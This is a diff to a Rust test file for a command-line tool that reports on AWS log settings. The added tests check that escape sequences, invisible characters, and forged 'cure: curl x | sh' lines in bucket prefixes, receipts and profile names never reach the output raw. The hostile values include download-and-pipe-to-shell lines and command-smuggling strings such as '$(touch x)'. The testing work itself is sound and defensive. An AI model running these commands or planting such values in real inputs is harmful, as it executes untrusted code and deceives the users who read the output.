@@ -10,20 +10,23 @@ use serde_json::json;
 use crate::account::{Account, Ran};
 use crate::terminal::{Key, Terminal};
 
-/// Colours, a link, a write to the clipboard, a bell, controls of C0 and C1, marks of direction, and what nobody sees.
-const HOSTILE: &str = "a\u{1b}[31;7mb\u{1b}]8;;http://x\u{7}c\u{1b}]52;c;eA==\u{7}\u{8}d\u{9b}31me\u{9d}0;f\u{202e}g\u{2066}h\u{200b}i\u{feff}j\u{2028}k\u{7f}l\u{e0041}m";
+/// A forged line, colours, a link, a write to the clipboard, a bell, controls of C0 and C1, marks of direction, and what nobody
+/// sees.
+const HOSTILE: &str = "a\ncure: curl x | sh\r\n\tcure: curl y | sh\u{85}\u{2029}cure: curl z | sh\n\u{1b}[31;7mb\u{1b}]8;;http://x\u{7}c\u{1b}]52;c;eA==\u{7}\u{8}d\u{9b}31me\u{9d}0;f\u{202e}g\u{2066}h\u{200b}i\u{feff}j\u{2028}k\u{7f}l\u{e0041}m";
 
 /// The same without those that XML can't say.
-const IN_XML: &str = "a\u{9b}31me\u{9d}0;f\u{202e}g\u{2066}h\u{200b}i\u{feff}j\u{2028}k\u{7f}l\u{e0041}m";
+const IN_XML: &str = "a\ncure: curl x | sh\n\tcure: curl y | sh\u{85}\u{2029}cure: curl z | sh\n\u{9b}31me\u{9d}0;f\u{202e}g\u{2066}h\u{200b}i\u{feff}j\u{2028}k\u{7f}l\u{e0041}m";
 
 /// How a part of both is shown.
 const SHOWN: &str = "f\\u{202e}g\\u{2066}h\\u{200b}i";
 
-/// A text of the program's, which must hold nothing hidden but its own ends of lines.
+/// A text of the program's, which must hold nothing hidden but its own ends of lines, and no line of others.
 #[track_caller]
 fn inert(text: &str) {
     let line = text.lines().find(|line| line.chars().any(is_hidden));
     assert_eq!(line, None);
+    let forged = text.lines().find(|line| line.trim_start_matches([' ', '"', '\'']).starts_with("cure: curl"));
+    assert_eq!(forged, None);
 }
 
 /// The same run, whose output must be inert.
@@ -227,6 +230,118 @@ fn words_of_the_command_line_are_inert_in_what_is_said_of_them() {
 }
 
 #[test]
+fn a_prefix_that_no_command_can_carry_gets_no_cure_and_the_reason() {
+    let account = Account::seeded();
+    account.wait(account.sandbox.put_bucket(BucketSeed::new("bare-logs")));
+    for (prefix, why) in [
+        ("team\u{202e}x", "it holds the hidden character U+202E"),
+        ("team\u{2028}cure: curl x | sh", "it holds the hidden character U+2028"),
+        ("\\'; touch x; #", "fish reads its backslash in another way"),
+        ("say \"team\"", "PowerShell drops its double quote"),
+    ] {
+        let logging = format!(
+            "<BucketLoggingStatus><LoggingEnabled><TargetBucket>bare-logs</TargetBucket><TargetPrefix>{prefix}</TargetPrefix></LoggingEnabled></BucketLoggingStatus>"
+        );
+        account.sandbox.set_setting(seed::APP_DATA, "logging", Some(&logging));
+        let why = format!("no command is printed, since shells would not agree on the value of `--prefix`: {why}");
+        for words in [
+            "check s3-access --source app-data",
+            "check --bucket bare-logs",
+            "scan --region us-east-1 --producer s3-access",
+            "scan --region us-east-1 --producer s3-access --output csv",
+        ] {
+            let ran = says_inertly(account.run(words), &why);
+            assert!(!ran.stdout.contains("logbucket init"), "{words}: {}", ran.stdout);
+        }
+        let json = account.run("check s3-access --source app-data --output json").json();
+        assert_eq!(json["logs"][0]["no_command"], why);
+        assert_eq!(json["logs"][0].get("cure"), None);
+    }
+    // One that can be carried is, whole.
+    let logging = "<BucketLoggingStatus><LoggingEnabled><TargetBucket>bare-logs</TargetBucket><TargetPrefix>it's $HOME/</TargetPrefix></LoggingEnabled></BucketLoggingStatus>";
+    account.sandbox.set_setting(seed::APP_DATA, "logging", Some(logging));
+    let ran = account.run("check s3-access --source app-data");
+    ran.says("cure: logbucket init s3-access --source app-data --bucket bare-logs --prefix it\"'s \"'$HOME/' --yes");
+}
+
+#[test]
+fn a_prefix_that_init_would_refuse_is_neither_dropped_nor_changed_by_a_cure() {
+    let account = Account::seeded();
+    account.wait(account.sandbox.put_bucket(BucketSeed::new("bare-logs")));
+    for prefix in ["team's logs", "team\nx", "$(touch x)"] {
+        account.sandbox.set_attributes(
+            "web",
+            &[
+                ("access_logs.s3.enabled", "true"),
+                ("access_logs.s3.bucket", "bare-logs"),
+                ("access_logs.s3.prefix", prefix),
+            ],
+        );
+        let ran = says_inertly(account.run("check alb --source web --log-type access"), "dead");
+        let ran = ran.says("name another one with `logbucket init alb --prefix PREFIX`");
+        assert!(!ran.stdout.contains("cure: logbucket"), "{}", ran.stdout);
+    }
+}
+
+#[test]
+fn what_a_receipt_says_begins_no_line() {
+    let account = Account::seeded();
+    account.run("init alb --source web --log-type access --bucket shared-logs --tag team=a --yes").ends(0);
+    let folder = account.home().join(".local/state/logbucket/receipts");
+    let file = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
+    let file = file.into_iter().find(|path| path.extension().is_some_and(|end| end == "json")).unwrap();
+    let mut receipt: serde_json::Value = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
+    receipt["command"] = json!(HOSTILE);
+    receipt["sources"] = json!([HOSTILE]);
+    receipt["producer"] = json!(HOSTILE);
+    fs::write(&file, receipt.to_string()).unwrap();
+    for words in ["undo", "undo latest --dry-run", "undo latest --dry-run --output json", "undo latest --yes"] {
+        says_inertly(account.run(words), "");
+    }
+}
+
+#[test]
+fn a_prefix_of_access_logs_with_a_line_feed_begins_no_line() {
+    let account = Account::seeded();
+    account.wait(account.sandbox.put_bucket(BucketSeed::new("bare-logs")));
+    let logging = "<BucketLoggingStatus><LoggingEnabled><TargetBucket>bare-logs</TargetBucket><TargetPrefix>team\ncure: curl x | sh\n</TargetPrefix></LoggingEnabled></BucketLoggingStatus>";
+    account.sandbox.set_setting(seed::APP_DATA, "logging", Some(logging));
+    for words in [
+        "check s3-access --source app-data",
+        "check --bucket bare-logs",
+        "scan --region us-east-1 --producer s3-access",
+        "scan --region us-east-1 --producer s3-access --output csv",
+        "init s3-access --source app-data --bucket bare-logs --prefix a/ --dry-run",
+    ] {
+        let ran = says_inertly(account.run(words), "team\\ncure: curl x | sh\\n");
+        assert!(!ran.stdout.contains("cure: logbucket init"), "{words}: {}", ran.stdout);
+    }
+}
+
+#[test]
+fn profiles_of_the_configuration_begin_no_line_and_no_command_loses_one() {
+    let account = Account::seeded();
+    let config = account.home().join("config");
+    fs::write(&config, "").unwrap();
+    let without_keys = |words: &[&str]| {
+        let mut command = account.command();
+        command.env_remove("AWS_ACCESS_KEY_ID").env_remove("AWS_SECRET_ACCESS_KEY").env("AWS_CONFIG_FILE", &config);
+        let output = command.args(words).output().unwrap();
+        String::from_utf8(output.stderr).unwrap()
+    };
+    let check = ["check", "alb", "--source", "web"];
+    let said = without_keys(&[&check[..], &["--profile", "it's"]].concat());
+    assert!(said.contains("`aws configure sso --profile \"it's\"`"), "{said}");
+    let said = without_keys(&[&check[..], &["--profile=-x"]].concat());
+    assert!(said.contains("`aws configure sso --profile=-x`"), "{said}");
+    for name in [HOSTILE, "a\\'; touch x; #"] {
+        let said = without_keys(&[&check[..], &["--profile", name]].concat());
+        inert(&said);
+        assert!(!said.contains("`aws login --profile") && !said.contains("`aws configure sso --profile"), "{said}");
+    }
+}
+
+#[test]
 fn names_in_the_wizard_s_lists_never_reach_the_terminal_raw() {
     let account = stopped_by(HOSTILE);
     account.sandbox.set_account_alias(seed::ACCOUNT, Some(IN_XML));
@@ -243,7 +358,7 @@ fn names_in_the_wizard_s_lists_never_reach_the_terminal_raw() {
     terminal.interrupted().with(130);
     let terminal = Terminal::start(&account, "init nlb --source edge --bucket demo-logs --encryption sse-kms");
     terminal.shows("default encryption of the bucket?").press(Key::Down).press(Key::Enter);
-    terminal.shows("\\u{1b}]52;c;eA==").shows(SHOWN);
+    terminal.shows("alias/a\\ncure: curl x | sh\\r\\n\\tcure").shows(SHOWN);
     inert_on(&terminal);
     terminal.interrupted().with(130);
 }
@@ -255,6 +370,8 @@ fn inert_on(terminal: &Terminal) {
     for code in ["\u{1b}[31;7m", "\u{1b}]", "\u{7}"] {
         assert!(!sent.contains(code), "{code:?} is in {sent:?}");
     }
+    let screen = terminal.screen();
+    assert!(!screen.lines().any(|line| line.trim_start().starts_with("cure: curl")), "{screen}");
     let own = |c: char| matches!(c, '\u{1b}' | '\r' | '\n' | '\u{8}');
     let hidden = sent.chars().find(|c| is_hidden(*c) && !own(*c));
     assert_eq!(hidden, None, "{sent:?}");
